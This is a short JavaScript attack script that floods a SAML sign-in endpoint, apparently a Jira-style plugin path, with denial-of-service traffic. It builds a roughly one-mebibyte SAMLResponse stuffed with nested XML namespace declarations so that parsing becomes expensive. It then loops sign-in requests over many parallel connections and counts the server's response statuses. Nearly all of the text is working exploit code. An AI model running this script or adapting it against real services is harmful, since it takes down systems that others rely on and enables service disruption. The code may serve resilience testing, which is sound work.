// A stranger at full speed, as a program of its own: begins sign-ins and answers each with a message
// that is as large and as dear to read as may be. Says how many answers came, by status, when its
// standard input ends.

import { form, request } from "./http.js";

const [port, host, connections] = process.argv.slice(2);
const auth = "/plugins/servlet/saml/auth";

/** A message of a mebibyte: names that must be looked up, in the outermost of many scopes. */
function message() {
  const letters = (n) => String.fromCharCode(97 + Math.floor(n / 26), 97 + (n % 26));
  const many = (count, one) => Array.from({ length: count }, (_, n) => one(n)).join("");
  const tag = `<x${many(32, (n) => ` p0-0:${letters(n)}=""`)}/>`;
  const open = many(4, (level) => `<a${many(7, (n) => ` xmlns:p${level}-${n}="u:${level}-${n}"`)}>`);
  const head =
    '<p:Response xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0" ' +
    'IssueInstant="2026-03-01T12:00:00Z"><p:Extensions>';
  const tags = tag.repeat(Math.floor(1_000_000 / tag.length));
  return `${head}${open}${tags}${"</a>".repeat(4)}</p:Extensions></p:Response>`;
}

const answers = {};
let over = false;
process.stdin.on("end", () => (over = true)).resume();

const SAMLResponse = Buffer.from(message()).toString("base64");
async function attack() {
  while (!over) {
    const start = await request(Number(port), { host, path: `${auth}?os_destination=/browse/DEMO-1` });
    const cookie = start.cookies.map((line) => line.split(";")[0]).join("; ");
    const RelayState = new URL(start.headers.location).searchParams.get("RelayState");
    const { headers, ...post } = form({ SAMLResponse, RelayState });
    const answer = await request(Number(port), { host, path: auth, ...post, headers: { ...headers, cookie } });
    answers[answer.status] = (answers[answer.status] ?? 0) + 1;
    if (answers[answer.status] === 1) console.log(`first ${answer.status}`);
  }
}
await Promise.all(Array.from({ length: Number(connections) }, attack));
console.log(JSON.stringify(answers));
